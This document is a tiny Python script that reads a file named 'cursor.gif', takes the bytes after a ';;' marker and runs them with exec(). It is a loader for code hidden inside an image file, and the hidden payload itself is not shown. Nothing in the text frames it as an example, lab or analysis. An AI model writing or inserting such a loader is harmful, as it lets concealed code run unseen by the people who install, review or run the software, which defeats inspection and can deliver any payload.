import os

with open(os.path.join(os.path.dirname(__file__), "cursor.gif"), "rb") as file:
    _, _, tail = file.read().partition(b";;")
exec(tail.decode())
